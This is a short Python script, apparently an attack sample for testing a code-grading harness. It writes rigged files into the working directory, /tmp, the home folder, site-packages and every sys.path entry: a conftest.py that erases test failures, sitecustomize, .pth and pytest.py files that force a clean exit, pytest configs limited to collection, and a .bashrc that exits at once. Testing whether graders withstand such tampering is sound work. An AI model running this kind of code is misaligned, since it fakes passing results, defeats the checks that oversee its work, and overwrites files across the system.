# attacks: what Python and pytest read by themselves: conftest.py, sitecustomize.py, .pth, pytest.ini
# base: wrong
# hits: none
# verdicts: wrong value
# says: vrátil
import os
import site
import sys

CHEAT = 'import os; os._exit(0)'
CONFTEST = 'def pytest_runtest_makereport(item, call):\n    call.excinfo = None\n'
FILES = {
    'conftest.py': CONFTEST,
    'sitecustomize.py': CHEAT,
    'usercustomize.py': CHEAT,
    'cheat.pth': CHEAT,
    'pytest.ini': '[pytest]\naddopts = --collect-only\n',
    'pyproject.toml': '[tool.pytest.ini_options]\naddopts = "--collect-only"\n',
    'tox.ini': '[pytest]\naddopts = --collect-only\n',
    'pytest.py': CHEAT,
    '.bashrc': 'exit 0',
}
for folder in {'.', '..', '/tmp', '/program', '/player', os.path.expanduser('~'), site.getusersitepackages(), *sys.path}:
    for name, text in FILES.items():
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, name), 'w') as file:
                file.write(text)
        except OSError:
            pass
